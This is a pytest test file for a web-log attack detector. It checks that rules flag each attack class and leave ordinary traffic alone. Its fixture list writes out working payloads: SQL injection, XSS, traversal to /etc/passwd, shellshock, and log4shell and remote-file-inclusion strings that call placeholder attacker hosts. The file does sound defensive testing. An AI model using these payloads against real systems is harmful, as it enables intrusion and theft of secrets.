from __future__ import annotations

import re
from functools import cache
from pathlib import Path
from urllib.parse import quote

import pytest
import yaml

from logvision.detect import Detector
from logvision.detect.detector import BUILTIN
from logvision.schema import Attack

pytestmark = pytest.mark.slow

THRESHOLD = 0.5

SAMPLES = Path(__file__).parent.parent / "samples" / "rules"

VISITOR = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


@pytest.fixture(scope="module")
def detector() -> Detector:
    return Detector.open(model=None)


def judged(
    detector: Detector, requests: list[tuple[str, str, str, str]]
) -> list[tuple[float, str | None, str | None]]:
    """(score, class, rules) of (method, target, agent, referer)."""
    methods, targets, agents, referers = (list(column) for column in zip(*requests, strict=True))
    table = detector.judge(targets, agents, referers, methods)
    return list(zip(*(table.column(name).to_pylist() for name in ("score", "attack", "rules")), strict=True))


def of_targets(detector: Detector, targets: list[str]) -> dict[str, tuple[float, str | None, str | None]]:
    verdicts = judged(detector, [("GET", target, VISITOR, "-") for target in targets])
    return dict(zip(targets, verdicts, strict=True))


def lines(name: str) -> list[str]:
    return (SAMPLES / name).read_text("utf-8").splitlines()


@cache
def lists() -> list[tuple[str, Path, str]]:
    """(rule, file, match) of every rule that is a list."""
    found = []
    for path in sorted(BUILTIN.glob("*.yml")):
        text = path.read_text()
        if "\n  list:" in text:  # reading all of them takes longer than most tests
            spec = yaml.safe_load(text)["logvision"]["list"]
            found.append((path.stem, BUILTIN / spec["file"], spec["match"]))
    return found


def entries(path: Path) -> list[str]:
    rows = (row.split("\t")[0].strip() for row in path.read_text("utf-8").splitlines())
    return [row for row in rows if row and not row.startswith("# ")]


# One request of every class that a log line can show, carried by path, query, agent and referer.
CARRIED = [
    ("sqli", "GET", "/item?id=-1%20UNION%20SELECT%201,password%20FROM%20users--", VISITOR, "-"),
    ("sqli", "GET", "/item/1%27%20AND%20SLEEP(5)--%20", VISITOR, "-"),
    ("sqli", "GET", "/", "x' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- ", "-"),
    ("sqli", "GET", "/", VISITOR, "1 and extractvalue(1,concat(0x7e,version()))"),
    ("nosqli", "GET", "/login?user[$ne]=1&pass[$ne]=1", VISITOR, "-"),
    ("xss", "GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", VISITOR, "-"),
    ("xss", "GET", "/a%22%3E%3Csvg%20onload=alert(1)%3E", VISITOR, "-"),
    ("xss", "GET", "/", "<script>alert(1)</script>", "-"),
    ("traversal", "GET", "/?f=../../../../etc/passwd", VISITOR, "-"),
    ("traversal", "GET", "/static/..%252f..%252f..%252fetc/shadow", VISITOR, "-"),
    ("traversal", "GET", "/manager/..;/host-manager/html", VISITOR, "-"),
    ("rfi", "GET", "/index.php?page=http://203.0.113.9/shell.txt?", VISITOR, "-"),
    ("rce", "GET", "/?ip=127.0.0.1;cat%20/etc/passwd", VISITOR, "-"),
    ("rce", "GET", "/", '() { :;}; /bin/bash -c "id"', "-"),
    ("rce", "GET", "/?x=powershell%20-enc%20SQBFAFgA", VISITOR, "-"),
    ("php", "GET", "/?a=phpinfo()", VISITOR, "-"),
    ("java", "GET", "/%25%7B(%23_memberAccess=%23a)%7D", VISITOR, "-"),
    ("java", "GET", "/?s=$%7Bscript:javascript:java.lang.Runtime.getRuntime()%7D", VISITOR, "-"),
    ("code", "GET", "/?x=require(%27child_process%27)", VISITOR, "-"),
    ("code", "GET", "/?x=__import__(%27os%27).getcwd()", VISITOR, "-"),
    ("ssti", "GET", "/?name={{7*7}}", VISITOR, "-"),
    ("deserialisation", "GET", "/?d=rO0ABXNyABFqYXZhLnV0aWw", VISITOR, "-"),
    ("deserialisation", "GET", "/?d=O:8:%22Example%22:1:{s:1:%22a%22;i:1;}", VISITOR, "-"),
    ("log4shell", "GET", "/", "${${lower:j}ndi:${lower:l}dap://203.0.113.5/a}", "-"),
    ("ssrf", "GET", "/?url=http://169.254.169.254/latest/meta-data/", VISITOR, "-"),
    ("ssrf", "GET", "/?url=http://0xa9fea9fe/", VISITOR, "-"),
    ("ssrf", "GET", "/?url=http://[::ffff:a9fe:a9fe]/", VISITOR, "-"),
    ("xxe", "GET", "/?x=%3C!ENTITY%20%25%20a%20SYSTEM%20%22http://203.0.113.9/%22%3E", VISITOR, "-"),
    ("ldap", "GET", "/?user=admin)(%7C(password=*))", VISITOR, "-"),
    ("ssi", "GET", "/?x=%3C!--%23exec%20cmd=%22ls%22--%3E", VISITOR, "-"),
    ("crlf", "GET", "/%0d%0aSet-Cookie:%20a=b", VISITOR, "-"),
    ("redirect", "GET", "/%5cevil.example/%2f..", VISITOR, "-"),
    ("smuggling", "GET", "/?a=%0d%0aTransfer-Encoding:%20chunked", VISITOR, "-"),
    ("prototype", "GET", "/?__proto__[admin]=1", VISITOR, "-"),
    ("graphql", "GET", "/graphql?query={__schema{types{name}}}", VISITOR, "-"),
    ("webshell", "GET", "/wp-content/uploads/c99.php", VISITOR, "-"),
    ("webshell", "GET", "/x.php?cmd=id", VISITOR, "-"),
    ("sensitive", "GET", "/.env", VISITOR, "-"),
    ("probe", "GET", "/.claude/settings.json", VISITOR, "-"),
    ("cve", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", VISITOR, "-"),
    ("scanner", "GET", "/", "sqlmap/1.7.2#stable (https://sqlmap.org)", "-"),
    ("protocol", "TRACE", "/", VISITOR, "-"),
    ("protocol", "", "\\x16\\x03\\x01\\x02\\x00", VISITOR, "-"),
    ("protocol", "CONNECT", "example.org:443", VISITOR, "-"),
]


def test_an_attack_of_every_class_that_a_log_line_shows_is_caught(detector: Detector) -> None:
    verdicts = judged(detector, [case[1:] for case in CARRIED])
    missed = [case for case, verdict in zip(CARRIED, verdicts, strict=True) if verdict[1] is None]
    assert missed == []


def test_the_class_of_an_attack_is_named_rightly(detector: Detector) -> None:
    verdicts = judged(detector, [case[1:] for case in CARRIED])
    named = [(case[2], case[0], verdict[1]) for case, verdict in zip(CARRIED, verdicts, strict=True)]
    # One header line can be both at once; either name is right.
    either = {("crlf", "smuggling"), ("smuggling", "crlf")}
    assert [row for row in named if row[1] != row[2] and (row[1], row[2]) not in either] == []


def test_every_class_but_those_of_behaviour_and_volume_has_a_rule(detector: Detector) -> None:
    of_behaviour = {
        Attack.BRUTE_FORCE,
        Attack.STUFFING,
        Attack.CRAWL,
        Attack.FLOOD,
        Attack.FAKE_BOT,
        Attack.ANOMALY,
        Attack.RFI,  # read by verification: a script on a strange host
    }
    assert set(Attack) - of_behaviour - {rule.attack for rule in detector.rules.rules} == set()


def test_secret_files_alarm_wherever_they_are_asked_for(detector: Detector) -> None:
    missed = [
        target
        for target, verdict in of_targets(detector, lines("secret-requests.txt")).items()
        if verdict[1] is None
    ]
    assert missed == []


def test_ordinary_addresses_raise_no_alarm(detector: Detector) -> None:
    flagged = {
        target: v
        for target, v in of_targets(detector, lines("ordinary-requests.txt")).items()
        if v[0] >= THRESHOLD
    }
    assert flagged == {}


def test_ordinary_agents_and_referers_raise_no_alarm(detector: Detector) -> None:
    agents = [
        VISITOR,
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "curl/8.5.0",
        "python-requests/2.31.0",
        "Go-http-client/2.0",
        "okhttp/4.12.0",
        "Apache-HttpClient/4.5.14 (Java/17.0.9)",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        "Prometheus/2.45.0",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/450.0]",
        "Dalvik/2.1.0 (Linux; U; Android 11; CUBOT NOTE 20)",
        "Wget/1.21.3",
        "-",
    ]
    referers = [
        "https://www.google.com/search?q=what+is+.env+file",
        "android-app://com.slack/",
        "https://example.org/wp-admin/",
    ]
    requests = [("GET", "/", agent, "-") for agent in agents] + [("GET", "/", VISITOR, r) for r in referers]
    assert [
        (request, verdict)
        for request, verdict in zip(requests, judged(detector, requests), strict=True)
        if verdict[0] >= THRESHOLD
    ] == []


def test_pages_that_many_sites_have_are_hints_that_stay_below_the_threshold(detector: Detector) -> None:
    hints = [
        "/phpmyadmin/",
        "/wp-login.php",
        "/status",
        "/x.php",
        "/cgi-bin/awstats.pl",
    ]
    scores = [verdict[0] for verdict in of_targets(detector, hints).values()]
    assert all(0.15 <= score < 0.4 for score in scores), dict(zip(hints, scores, strict=True))


WITH_ANSWERS = {"probe-missing", "probe-missing-products", "webshell-missing"}
"""Rules with a list that hold for some answers only."""


@pytest.mark.parametrize(
    ("rule", "path", "match"),
    [each for each in lists() if each[0] not in WITH_ANSWERS],
    ids=[each[0] for each in lists() if each[0] not in WITH_ANSWERS],
)
def test_every_entry_of_a_list_is_matched_by_its_rule(
    detector: Detector, rule: str, path: Path, match: str
) -> None:
    names = entries(path)
    if rule.startswith("scanner-"):
        requests = [("GET", "/", f"Tool {name} x", "-") for name in names]
    elif match == "contains":
        requests = [("GET", f"/{quote(name, safe='/?&=;[]()@.,:-_~+')}", VISITOR, "-") for name in names]
    else:
        requests = [("GET", f"/{quote(name, safe='/;()+,$@!:')}", VISITOR, "-") for name in names]
    verdicts = judged(detector, requests)
    dead = [
        name for name, verdict in zip(names, verdicts, strict=True) if rule not in (verdict[2] or "").split()
    ]
    assert dead == []


def test_pages_that_are_not_there_are_probes_but_for_those_that_monitors_ask_for(detector: Detector) -> None:
    names = entries(BUILTIN / "data" / "admin-pages.txt")
    asked = [f"/{quote(name, safe='/;()+,$@!:')}" for name in names]
    nobody: list[str | None] = [None] * len(asked)
    verdicts = detector.judge(asked, [VISITOR] * len(asked), nobody, ["GET"] * len(asked), [404] * len(asked))
    passed = [
        name
        for name, rules in zip(names, verdicts.column("rules").to_pylist(), strict=True)
        if "probe-missing" not in (rules or "").split()
    ]
    assert [
        name
        for name in passed
        if not re.search("stat|health|actuator|prometheus|metrics|server-info|well-known", name)
    ] == []


@pytest.mark.parametrize(("rule", "path", "match"), lists(), ids=[each[0] for each in lists()])
def test_no_list_holds_an_entry_twice(rule: str, path: Path, match: str) -> None:
    names = [name.lower().strip("/") for name in entries(path)]
    assert sorted({name for name in names if names.count(name) > 1}) == []


def test_no_list_of_endpoints_says_what_one_that_weighs_more_says_of_the_same_path() -> None:
    names = ("cve-paths", "exposed-endpoints", "unlinked-consoles", "product-endpoints", "admin-pages")
    root_and_below = ("unlinked-consoles", "product-endpoints")
    said: dict[str, str] = {}
    twice = []
    for name in names:
        rows = {row.lower().strip("/") for row in entries(BUILTIN / "data" / f"{name}.txt")}
        twice += [
            (row, said[row], name)
            for row in sorted(rows & said.keys())
            if (said[row], name) != root_and_below
        ]
        said |= dict.fromkeys(rows, name)
    assert twice == []


def test_every_known_vulnerable_path_says_what_it_is() -> None:
    bare = [
        row
        for name in ("cve-paths.txt", "cve-targets.txt", "exposed-endpoints.txt", "product-endpoints.txt")
        for row in (BUILTIN / "data" / name).read_text("utf-8").splitlines()
        if row and not row.startswith("# ") and not row.partition("\t")[2].strip()
    ]
    assert bare == []


def test_a_file_of_entries_without_a_rule_is_not_left_lying_about() -> None:
    used = {path for _, path, _ in lists()}
    assert set((BUILTIN / "data").glob("*.txt")) == used
